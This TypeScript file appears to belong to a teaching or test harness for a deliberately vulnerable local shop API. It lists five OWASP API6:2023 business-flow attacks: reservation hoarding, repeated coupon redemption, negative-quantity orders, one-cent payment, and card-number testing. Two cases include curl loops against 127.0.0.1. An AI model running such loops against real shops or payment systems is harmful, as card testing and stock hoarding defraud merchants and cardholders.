/** API6:2023 Unrestricted Access to Sensitive Business Flows. */
import { type Attack, type AttackRequest, ORDER_CUPS, lastSays } from "./attack.ts";

const reserve = (productId: number, quantity: number): AttackRequest => ({
  method: "POST",
  path: `/products/${productId}/reservations`,
  as: "alice",
  body: { quantity },
});
const redeem = (as: "alice" | "bob"): AttackRequest => ({ method: "POST", path: "/coupons/WELCOME5/redemptions", as });
const pay = (amountCents: number, number: string): AttackRequest => ({
  method: "POST",
  path: "/payments",
  as: "alice",
  body: { orderId: 2, amountCents, card: { number, expiry: "12/30", cvc: "123" } },
});
const CARDS = 30;

export const BUSINESS_FLOWS: readonly Attack[] = [
  {
    id: "reserve-everything",
    title: "alice reserves the whole limited edition",
    owasp: "API6:2023",
    flaw: "Nothing limits how often one caller reserves; twenty calls take all 200 pieces.",
    requests: ({ way }) => Array.from({ length: 20 }, () => reserve(way === "straight" ? 4 : 5, 10)),
    exploited: lastSays(201, '"left":0'),
    twin: { request: () => reserve(3, 1), status: 201, says: '"quantity":1' },
    shell: `for n in $(seq 20); do
  curl -X POST http://127.0.0.1:3000/products/4/reservations -H "Authorization: Bearer $ALICE" -H 'Content-Type: application/json' -d '{"quantity":10}'
done`,
  },
  {
    id: "coupon-again",
    title: "a coupon redeemed again and again",
    owasp: "API6:2023",
    flaw: "`POST /coupons/{code}/redemptions` does not remember who redeemed what.",
    requests: () => [redeem("alice"), redeem("alice"), redeem("alice")],
    exploited: (responses) => responses.filter((response) => response.status === 201).length > 1,
    twin: { request: () => redeem("bob"), status: 201, says: '"creditCents"' },
  },
  {
    id: "negative-quantity",
    title: "an order of minus five kettles",
    owasp: "API6:2023",
    flaw: "`POST /orders` multiplies price by quantity, whatever its sign: the shop owes the caller.",
    requests: () => [{ method: "POST", path: "/orders", as: "alice", body: { items: [{ productId: 2, quantity: -5 }] } }],
    exploited: lastSays(201, '"totalCents":-24500'),
    twin: ORDER_CUPS,
  },
  {
    id: "pay-one-cent",
    title: "an order of 54.00 paid with one cent",
    owasp: "API6:2023",
    flaw: "`POST /payments` marks an order as paid for any amount.",
    requests: () => [pay(1, "4111111111111111")],
    exploited: lastSays(201, '"orderStatus":"paid"'),
    twin: { request: () => pay(5400, "4111111111111111"), status: 201, says: '"orderStatus":"paid"' },
  },
  {
    id: "try-cards",
    title: "30 card numbers tried in a row",
    owasp: "API6:2023",
    flaw: "`POST /payments` says of any number of cards whether they are good.",
    requests: () => Array.from({ length: CARDS }, (_, index) => pay(1, `41111111111111${String(index + 10)}`)),
    exploited: (responses) => responses.filter(({ status }) => status === 402 || status === 201).length === CARDS,
    twin: { request: () => pay(5400, "5555555555554444"), status: 201, says: '"approved":true' },
    shell: `for n in $(seq 10 39); do
  curl -X POST http://127.0.0.1:3000/payments -H "Authorization: Bearer $ALICE" -H 'Content-Type: application/json' \\
    -d '{"orderId":2,"amountCents":1,"card":{"number":"41111111111111'$n'","expiry":"12/30","cvc":"123"}}'
done`,
  },
];
